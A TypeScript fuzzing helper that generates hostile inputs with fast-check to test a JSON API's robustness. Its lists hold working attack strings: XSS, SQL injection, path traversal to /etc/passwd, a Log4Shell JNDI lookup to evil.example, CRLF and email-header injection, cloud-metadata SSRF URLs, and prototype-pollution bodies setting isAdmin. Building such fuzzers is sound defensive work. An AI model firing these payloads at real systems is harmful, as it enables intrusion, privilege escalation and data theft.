import fc from 'fast-check'

/** Must appear in no response except as the sender's own data. */
export const CANARY = '<img src=x onerror=canary()>'

const nested = (depth: number): unknown => JSON.parse(`${'['.repeat(depth)}${']'.repeat(depth)}`)

/** Property names that every object inherits. */
const INHERITED = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'] as const

const TEXTS: readonly string[] = [
  ...INHERITED,
  CANARY,
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\u202Edlrow',
  '\u200b',
  '\ud83d',
  '\udc00x',
  '\uffff',
  '👩‍👩‍👧‍👦'.repeat(40),
  'e\u0301'.repeat(100),
  'ﷺ'.repeat(200),
  'x'.repeat(10_000),
  'ä'.repeat(130_000),
  '9'.repeat(400),
  '-1',
  '1e309',
  'NaN',
  'null',
  '0x10',
  '2026-02-30',
  '9999-12-31',
  '0000-00-00T00:00:00Z',
  '../../../etc/passwd',
  '%00',
  '%2e%2e%2f',
  '#frag?x=1&y=2',
  "'; DROP TABLE users; --",
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '\r\nSet-Cookie: sid=evil',
  '\r\nBcc: all@evil.example',
  'a@b.example\r\nBcc: all@evil.example',
  'https://evil.example/',
  '//evil.example',
  '\\\\evil.example',
  'javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:application/pdf;base64,JVBERi0xLjQK',
  'data:text/plain;base64,====',
  'http://169.254.169.254/latest/meta-data/',
  'USER#usr_1',
  'eyJwayI6IlVTRVIjMSIsInNrIjoiUFJPRklMRSJ9',
]

const VALUES: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  0.5,
  1e308,
  2 ** 53,
  -(2 ** 63),
  [],
  {},
  [[]],
  [null],
  { length: 3 },
  { toString: 1 },
  { $gt: '' },
  { S: 'x' },
  nested(500),
]

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...TEXTS), weight: 4 },
  fc.string({ unit: 'binary', maxLength: 80 }),
)

export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: hostileText, weight: 3 },
  { arbitrary: fc.constantFrom(...VALUES), weight: 2 },
  fc.jsonValue(),
)

/** A change to a value; `at` counts the nodes from its root. */
export const change = fc.record({
  at: fc.nat({ max: 40 }),
  how: fc.constantFrom('replace', 'drop', 'add', 'repeat'),
  key: fc.oneof(fc.constantFrom(...INHERITED, 'userId', 'isAdmin', 'role', 'plan'), hostileText),
  value: hostileValue,
})
type Change = typeof change extends fc.Arbitrary<infer T> ? T : never

/** JSON texts that are invalid as a whole. */
export const RAW_BODIES: readonly (string | Uint8Array<ArrayBuffer>)[] = [
  '',
  'null',
  '[]',
  '0',
  '"text"',
  '{',
  '{"a":1,}',
  '\ufeff{}',
  'NaN',
  '{"__proto__":{"isAdmin":true}}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  '{"a":1,"a":2}',
  '['.repeat(20_000),
  `{"a":${'['.repeat(4_000)}${']'.repeat(4_000)}}`,
  'a=1&b=2',
  new Uint8Array([0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00]),
  new Uint8Array([0x7b, 0x22, 0xc3, 0x28, 0x22, 0x3a, 0x31, 0x7d]),
]

/** The changed value as JSON text, which can have keys that an object literal cannot. */
export function changed(value: unknown, changes: readonly Change[]): string {
  return changes.reduce((text, each) => once(text, each), JSON.stringify(value) ?? 'null')
}

function once(text: string, { at, how, key, value }: Change): string {
  const chosen = at % countOf(text)
  let place = -1
  const hit = (): boolean => {
    place += 1
    return place === chosen
  }
  const walk = (node: unknown): string | null => {
    if (hit()) return edited(node, how, key, value)
    if (Array.isArray(node)) return `[${node.map((item) => walk(item) ?? 'null').join()}]`
    if (typeof node !== 'object' || node === null) return JSON.stringify(node)
    const entries = Object.entries(node).flatMap(([name, part]) => {
      const inner = walk(part)
      return inner === null ? [] : [`${JSON.stringify(name)}:${inner}`]
    })
    return `{${entries.join()}}`
  }
  return walk(JSON.parse(text)) ?? 'null'
}

function countOf(text: string): number {
  let places = 0
  JSON.parse(text, () => {
    places += 1
    return null
  })
  return places
}

/** The number of copies that keeps the text below the request size limit. */
const copiesOf = (node: unknown): number =>
  Math.max(2, Math.min(400, Math.floor(100_000 / JSON.stringify(node).length)))

/** Null when the value was dropped. */
function edited(node: unknown, how: Change['how'], key: string, value: unknown): string | null {
  if (how === 'drop') return null
  if (how === 'repeat') return JSON.stringify(Array.from({ length: copiesOf(node) }, () => node))
  if (how === 'replace' || typeof node !== 'object' || node === null || Array.isArray(node))
    return JSON.stringify(value)
  const inner = JSON.stringify(node).slice(1, -1)
  return `{${inner === '' ? '' : `${inner},`}${JSON.stringify(key)}:${JSON.stringify(value)}}`
}
